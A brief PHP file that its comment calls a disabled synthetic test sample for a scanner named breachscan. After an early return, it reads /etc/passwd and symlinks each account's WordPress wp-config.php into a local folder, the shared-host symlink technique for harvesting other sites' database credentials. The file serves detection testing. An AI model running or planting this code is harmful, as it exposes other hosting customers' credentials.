<?php
// synthetic test sample for breachscan: symlinks other accounts' CMS configuration files on
// a shared host. Disabled.
return;
foreach (file('/etc/passwd') as $line) {
    $u = explode(':', $line);
    @symlink('/home/' . $u[0] . '/public_html/wp-config.php', 'cfg/' . $u[0] . '.txt');
}
